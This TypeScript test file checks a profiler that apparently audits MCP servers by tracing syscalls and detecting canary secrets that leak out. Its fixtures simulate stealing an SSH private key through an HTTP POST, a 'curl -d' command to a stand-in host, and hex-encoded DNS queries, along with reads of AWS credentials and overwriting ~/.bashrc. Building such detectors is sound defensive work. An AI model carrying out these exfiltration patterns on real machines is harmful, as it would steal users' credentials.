import { ProfileBuilder, type ProfileContext } from '../../src/profile/build-profile.js'
import { accessOfOpen } from '../../src/profile/file-recorder.js'
import type { CallRecord, Phase } from '../../src/model/index.js'
import { sinkIPv4For } from '../../src/model/sink-address.js'
import type { TraceEvent } from '../../src/trace/events.js'
import { CWD, HOME, T0, clone, connect, dnsQuery, exec, inet, nodeStartupNoise, open, resetLines, send, socket, tcp } from './trace-fixtures.js'

const CANARY = 'MCPBCANARY7f3a9c2e5b1d4a68e0'
const STATS = { lines: 0, events: 0, unparsed: 0, unparsedSamples: [] }
const call = (id: number, startS: number, endS: number, iteration = 1, name = 'format_note'): CallRecord => ({
  id,
  kind: 'tool',
  name,
  iteration,
  startedAt: (T0 + startS) * 1000,
  endedAt: (T0 + endS) * 1000,
  outcome: 'ok'
})
const CALLS = [call(0, 1, 1.1)]
const during = (id = 0, iteration = 1): Phase => ({ kind: 'call', call: { id, kind: 'tool', name: 'format_note', iteration }, afterResponse: false })

function context(overrides: Partial<ProfileContext> = {}): ProfileContext {
  return {
    calls: CALLS,
    shutdownAt: (T0 + 3) * 1000,
    home: HOME,
    cwd: CWD,
    canaries: [{ id: '~/.ssh/id_rsa', value: CANARY }],
    serverCodeRoots: [CWD],
    runtimeRoots: ['/usr'],
    ...overrides
  }
}

function profile(events: TraceEvent[], ctx = context()): ReturnType<ProfileBuilder['finish']> {
  const builder = new ProfileBuilder(ctx)
  for (const event of events) builder.add(event)
  return builder.finish({ ...STATS, events: events.length })
}

beforeEach(() => resetLines())

describe('ProfileBuilder', () => {
  it('profiles the leaky format_note: canary read, egress with the secret, noise counted apart', () => {
    const observed = profile([
      exec(100, T0 + 0.1, '/usr/bin/node', ['node', 'server.js']),
      ...nodeStartupNoise(100, T0 + 0.2),
      open(100, T0 + 1.01, `${HOME}/.ssh/id_rsa`, ['O_RDONLY', 'O_CLOEXEC'], 21),
      socket(100, T0 + 1.02, 22),
      connect(100, T0 + 1.03, { fd: 22, info: { kind: 'socket', protocol: 'TCP' } }, inet('203.0.113.34', 80), -1, 'EINPROGRESS'),
      send(100, T0 + 1.04, tcp(22, '10.0.0.2', '203.0.113.34', 80), `POST / HTTP/1.1\r\n\r\n${CANARY}`),
      // the MCP answer on stdout (a socketpair from the auditor) carries the same bytes: not egress
      send(100, T0 + 1.06, { fd: 1, info: { kind: 'socket', protocol: 'UNIX-STREAM' } }, `{"result":"${CANARY}"}`)
    ])
    expect(observed).toEqual({
      files: [
        {
          path: `${HOME}/.ssh/id_rsa`,
          homePath: '~/.ssh/id_rsa',
          access: 'read',
          succeeded: true,
          category: 'canary-home',
          noise: false,
          count: 1,
          phases: [during()],
          traceLines: [19]
        }
      ],
      network: [
        {
          family: 'inet',
          protocol: 'tcp',
          address: '203.0.113.34',
          port: 80,
          loopback: false,
          syscall: 'connect',
          succeeded: true,
          bytesSent: 47,
          hostnames: [],
          count: 2,
          phases: [during()],
          traceLines: [21, 22]
        }
      ],
      dns: [],
      processes: [
        { executable: '/usr/bin/node', argv: ['node', 'server.js'], succeeded: true, isServer: true, count: 1, phases: [{ kind: 'startup' }], traceLines: [1] }
      ],
      leaks: [
        {
          canary: '~/.ssh/id_rsa',
          encoding: 'raw',
          via: 'socket',
          destination: '203.0.113.34:80',
          // the whole token, planted alone here (no file content given)
          bytes: { start: 0, end: CANARY.length, of: CANARY.length, within: 'value' },
          phases: [during()],
          traceLines: [22]
        }
      ],
      ioUring: [],
      leftovers: [],
      noise: { device: 2, proc: 3, runtime: 4, 'server-code': 6, 'system-config': 2 },
      trace: { lines: 0, events: 23, unparsed: 0, unparsedSamples: [] }
    })
  })

  it('attributes by time: startup, during a call, after its response, next call, shutdown', () => {
    const calls = [call(0, 1, 1.1), call(1, 2, 2.1, 1, 'other_tool')]
    const at = (t: number, name: string): TraceEvent => open(7, T0 + t, `/srv/data/${name}`, ['O_RDONLY'], 3)
    const observed = profile([at(0.5, 'a'), at(1.0005, 'b'), at(1.05, 'c'), at(1.5, 'd'), at(2.05, 'e'), at(2.5, 'f'), at(3.5, 'g')], context({ calls }))
    const other = { id: 1, kind: 'tool' as const, name: 'other_tool', iteration: 1 }
    expect(observed.files.map((f) => [f.path, f.phases])).toEqual([
      ['/srv/data/a', [{ kind: 'startup' }]],
      ['/srv/data/b', [during()]],
      ['/srv/data/c', [during()]],
      ['/srv/data/d', [{ ...during(), afterResponse: true }]],
      ['/srv/data/e', [{ kind: 'call', call: other, afterResponse: false }]],
      ['/srv/data/f', [{ kind: 'call', call: other, afterResponse: true }]],
      ['/srv/data/g', [{ kind: 'shutdown' }]]
    ])
  })

  it('resolves relative paths against per-process cwd, chdir, inherited cwd and dirfds', () => {
    const observed = profile([
      exec(10, T0, '/usr/bin/python3', ['python3', 'srv.py']),
      open(10, T0, 'data/../notes.txt', ['O_RDONLY'], -2),
      { type: 'chdir', line: 100, pid: 10, time: T0, syscall: 'chdir', ret: 0, path: '/home/u/project' },
      clone(10, T0, 11),
      open(11, T0, './lib/secrets', ['O_RDONLY'], -13),
      open(10, T0, 'id_rsa', ['O_RDONLY'], -2, { dir: { fd: 5, info: { kind: 'path', path: '/home/u/.ssh' } } }),
      // a successful open: the returned fd's decoration is the kernel's own resolution
      open(11, T0, 'link-to-config', ['O_RDONLY'], 4, { retFd: { kind: 'path', path: '/etc/hostname' } })
    ])
    expect(observed.files.map((f) => [f.path, f.category, f.succeeded])).toEqual([
      ['/etc/hostname', 'system-config', true],
      ['/home/u/.ssh/id_rsa', 'other', false],
      ['/home/u/project/lib/secrets', 'other', false]
    ])
    // data/../notes.txt resolves to /srv/notes-server/notes.txt: the server's own code dir, counted as noise
    expect(observed.noise).toEqual({ 'server-code': 1 })
  })

  it('maps open flags, unlink, rename, mkdir, truncate and links to accesses', () => {
    expect(
      [
        ['O_RDONLY'],
        ['O_RDONLY', 'O_DIRECTORY'],
        ['O_PATH'],
        ['O_WRONLY', 'O_CREAT', 'O_TRUNC'],
        ['O_RDWR', 'O_CREAT', 'O_EXCL'],
        ['O_RDWR'],
        ['O_RDONLY', 'O_TRUNC']
      ].map((flags) => accessOfOpen({ syscall: 'openat', flags }))
    ).toEqual(['read', 'read', null, 'write', 'create', 'write', 'write'])
    expect(accessOfOpen({ syscall: 'creat', flags: [] })).toBe('create')
    const observed = profile([
      exec(1, T0, '/usr/bin/node', ['node']),
      { type: 'unlink', line: 2, pid: 1, time: T0, syscall: 'unlinkat', ret: 0, dir: { fd: 'AT_FDCWD' }, path: '/srv/data/old.txt', directory: false },
      {
        type: 'rename',
        line: 3,
        pid: 1,
        time: T0,
        syscall: 'rename',
        ret: 0,
        fromDir: { fd: 'AT_FDCWD' },
        from: '/tmp/x.tmp',
        toDir: { fd: 'AT_FDCWD' },
        to: `${HOME}/.bashrc`
      },
      { type: 'mkdir', line: 4, pid: 1, time: T0, syscall: 'mkdir', ret: -1, errno: 'EEXIST', dir: { fd: 'AT_FDCWD' }, path: '/srv/data/out' },
      { type: 'truncate', line: 5, pid: 1, time: T0, syscall: 'ftruncate', ret: 0, fd: { fd: 3, info: { kind: 'path', path: '/srv/data/db.sqlite' } } },
      {
        type: 'link',
        line: 6,
        pid: 1,
        time: T0,
        syscall: 'symlink',
        ret: 0,
        symbolic: true,
        target: '/bin/sh',
        fromDir: { fd: 'AT_FDCWD' },
        toDir: { fd: 'AT_FDCWD' },
        linkPath: '/srv/data/sh'
      }
    ])
    expect(observed.files.map((f) => [f.path, f.access, f.renamedTo ?? null, f.succeeded])).toEqual([
      ['/srv/data/db.sqlite', 'write', null, true],
      ['/srv/data/old.txt', 'delete', null, true],
      ['/srv/data/out', 'mkdir', null, false],
      ['/srv/data/sh', 'create', null, true],
      ['/tmp/x.tmp', 'rename', `${HOME}/.bashrc`, true]
    ])
  })

  it('decodes DNS queries sent with sendmmsg to port 53 and names the sink address they resolve to', () => {
    const resolverFd = { fd: 9, info: { kind: 'socket' as const, protocol: 'UDP', remote: { address: '127.0.0.53', port: 53 } } }
    const sink = sinkIPv4For('api.example.com')
    const observed = profile([
      exec(5, T0, '/usr/bin/node', ['node', 's.js']),
      socket(5, T0 + 1.01, 9, 'AF_INET', 'SOCK_DGRAM|SOCK_NONBLOCK'),
      connect(5, T0 + 1.01, { fd: 9, info: { kind: 'socket', protocol: 'UDP' } }, inet('127.0.0.53', 53)),
      {
        type: 'send',
        line: 50,
        pid: 5,
        time: T0 + 1.02,
        syscall: 'sendmmsg',
        ret: 2,
        fd: resolverFd,
        payloads: [
          { data: dnsQuery(0x1111, 'api.example.com', 1), truncated: false },
          { data: dnsQuery(0x2222, 'api.example.com', 28), truncated: false }
        ]
      },
      connect(5, T0 + 1.03, { fd: 10, info: { kind: 'socket', protocol: 'TCP' } }, inet(sink, 443), -1, 'EINPROGRESS')
    ])
    expect(observed.dns).toEqual([
      { name: 'api.example.com', type: 'A', resolver: '127.0.0.53:53', count: 1, phases: [during()], traceLines: [50] },
      { name: 'api.example.com', type: 'AAAA', resolver: '127.0.0.53:53', count: 1, phases: [during()], traceLines: [50] }
    ])
    expect(observed.network).toEqual([
      {
        family: 'inet',
        protocol: 'tcp',
        address: sink,
        port: 443,
        loopback: false,
        syscall: 'connect',
        succeeded: true,
        bytesSent: 0,
        hostnames: ['api.example.com'],
        count: 1,
        phases: [during()],
        traceLines: [4]
      }
    ])
  })

  it('finds canaries in DNS names and child argv, and treats loopback, v4-mapped and unix destinations', () => {
    const hexLabel = Buffer.from(CANARY).toString('hex').slice(0, 40)
    const observed = profile([
      exec(5, T0, '/usr/bin/node', ['node', 's.js']),
      send(5, T0 + 1.02, { fd: 9, info: { kind: 'socket', protocol: 'UDP' } }, dnsQuery(1, `${hexLabel}.x.example`, 16), 'sendto', inet('127.0.0.53', 53)),
      clone(5, T0 + 1.03, 6),
      exec(6, T0 + 1.04, '/usr/bin/curl', ['curl', '-d', CANARY, 'http://192.0.2.7/']),
      connect(5, T0 + 1.05, { fd: 11 }, { family: 'AF_INET6', address: '::ffff:127.0.0.1', port: 8080, mappedIPv4: '127.0.0.1' }),
      connect(5, T0 + 1.05, { fd: 12 }, { family: 'AF_UNIX', path: '/var/run/nscd/socket', abstract: false }, -1, 'ENOENT'),
      connect(5, T0 + 1.05, { fd: 13 }, { family: 'other', raw: '{sa_family=AF_UNSPEC}' })
    ])
    expect(observed.leaks.map((l) => [l.canary, l.via, l.encoding, l.destination])).toEqual([
      ['~/.ssh/id_rsa', 'argv', 'raw', '/usr/bin/curl'],
      ['~/.ssh/id_rsa', 'dns', 'hex', `${hexLabel}.x.example`]
    ])
    expect(observed.processes.map((p) => [p.executable, p.isServer, p.phases])).toEqual([
      ['/usr/bin/curl', false, [during()]],
      ['/usr/bin/node', true, [{ kind: 'startup' }]]
    ])
    expect(observed.network.map((n) => [n.family, n.protocol, n.address, n.port ?? null, n.loopback, n.succeeded])).toEqual([
      ['unix', 'unix', '/var/run/nscd/socket', null, true, false],
      ['inet', 'unknown', '127.0.0.1', 8080, true, true]
    ])
  })

  it('records io_uring setup and caps trace lines and phases per entry', () => {
    const calls = Array.from({ length: 12 }, (_, i) => call(i, 1 + i, 1.5 + i, i + 1))
    const events: TraceEvent[] = [exec(1, T0, '/usr/bin/node', ['node'])]
    for (let i = 0; i < 12; i++) {
      events.push(open(1, T0 + 1.1 + i, `${HOME}/.aws/credentials`, ['O_RDONLY'], 3))
      events.push(open(1, T0 + 1.2 + i, `${HOME}/.aws/credentials`, ['O_RDONLY'], 3))
    }
    events.push({ type: 'io_uring', line: 999, pid: 1, time: T0 + 0.5, syscall: 'io_uring_setup', ret: 5 })
    const observed = profile(events, context({ calls, shutdownAt: (T0 + 20) * 1000 }))
    const [credentials] = observed.files
    expect(credentials?.count).toBe(24)
    expect(credentials?.traceLines).toHaveLength(20)
    expect(credentials?.phases).toHaveLength(10)
    expect(observed.ioUring).toEqual([{ phases: [{ kind: 'startup' }], traceLines: [999] }])
  })

  it('trusts the fd decoration over socket bookkeeping once a socket fd is reused for a file', () => {
    const T = T0 + 1.05
    const observed = profile([
      socket(20, T, 17),
      connect(20, T + 0.001, tcp(17, '0.0.0.0', '203.0.113.5', 443), inet('203.0.113.5', 443), -1, 'EINPROGRESS'),
      open(20, T + 0.02, '/srv/notes-server/scratch.txt', ['O_WRONLY', 'O_CREAT', 'O_TRUNC'], 17),
      send(20, T + 0.03, { fd: 17, info: { kind: 'path', path: '/srv/notes-server/scratch.txt' } }, `note ${CANARY}`)
    ])
    expect(observed.network).toHaveLength(1)
    expect(observed.network[0]?.traceLines).toHaveLength(1)
    expect(observed.leaks).toEqual([])
  })
})

describe('any piece of a canary file, once read', () => {
  const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE' + CANARY + '\n-----END OPENSSH PRIVATE KEY-----\n'
  const ctx = context({ canaryFiles: [{ id: '~/.ssh/id_rsa', value: KEY }] })
  const header = (at: number) => send(100, T0 + at, tcp(22, '10.0.0.2', '203.0.113.9', 80), KEY.slice(0, 40))

  it('counts the fixed header of a key the server has read', () => {
    const observed = profile([open(100, T0 + 1.01, `${HOME}/.ssh/id_rsa`, ['O_RDONLY'], 21), header(1.02)], ctx)
    expect(observed.leaks.map((leak) => [leak.canary, leak.via, leak.destination])).toEqual([['~/.ssh/id_rsa', 'socket', '203.0.113.9:80']])
  })

  it('not before the read, and not without it', () => {
    expect(profile([header(1.02)], ctx).leaks).toEqual([])
    expect(profile([header(1.01), open(100, T0 + 1.02, `${HOME}/.ssh/id_rsa`, ['O_RDONLY'], 21)], ctx).leaks).toEqual([])
    // a failed read links nothing
    expect(profile([open(100, T0 + 1.01, `${HOME}/.ssh/id_rsa`, ['O_RDONLY'], -1), header(1.02)], ctx).leaks).toEqual([])
  })
})
